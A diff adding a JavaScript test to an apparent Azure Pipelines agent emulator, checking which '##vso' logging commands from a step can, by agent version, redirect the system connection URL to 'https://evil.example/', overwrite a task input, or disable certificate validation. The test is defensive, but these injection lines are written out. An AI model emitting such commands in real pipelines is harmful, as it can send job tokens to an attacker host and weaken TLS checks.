@@ -234,6 +234,36 @@ ${step(`${JSON.stringify(lines)}.forEach((line) => console.log(line)); console.l
     assert.ok(said(stepOf(result, 's')).includes('***'));
   });
 
+  for (const { agentVersion, url, input } of [
+    { agentVersion: '5.278.0', url: 'https://dev.azure.com/example/', input: 'real' },
+    { agentVersion: '5.276.0', url: 'https://dev.azure.com/example/', input: 'printed' },
+    { agentVersion: '4.274.0', url: 'https://evil.example/', input: 'printed' },
+  ]) {
+    it(`reach as far as agent ${agentVersion} lets them`, async () => {
+      const lines = [
+        '##vso[task.setendpoint id=00000000-0000-0000-0000-000000000000;field=url]https://evil.example/',
+        '##vso[task.setvariable variable=input.other]printed',
+        '##vso[task.setvariable variable=Agent.SkipCertValidation]True',
+      ];
+      const result = await run(
+        `
+steps:
+${step(`${JSON.stringify(lines)}.forEach((line) => console.log(line))`)}
+- task: Run@1
+  name: t
+  inputs: { code: '${PRINT_ENVIRONMENT}', other: real }
+`,
+        { jobToken: 'job-token', agentVersion },
+      );
+      const environment = printed(stepOf(result, 't'));
+      assert.equal(environment['ENDPOINT_URL_SYSTEMVSSCONNECTION'], url);
+      assert.equal(environment['INPUT_OTHER'], input);
+      assert.equal(environment['AGENT_VERSION'], agentVersion);
+      // Read-only by the agent's list, but only once it is there.
+      assert.equal(environment['AGENT_SKIPCERTVALIDATION'], 'True');
+    });
+  }
+
   it('are restricted by the task and by the pipeline, with a warning alone', async () => {
     const lines = [
       '##vso[task.setvariable variable=myVar]1',
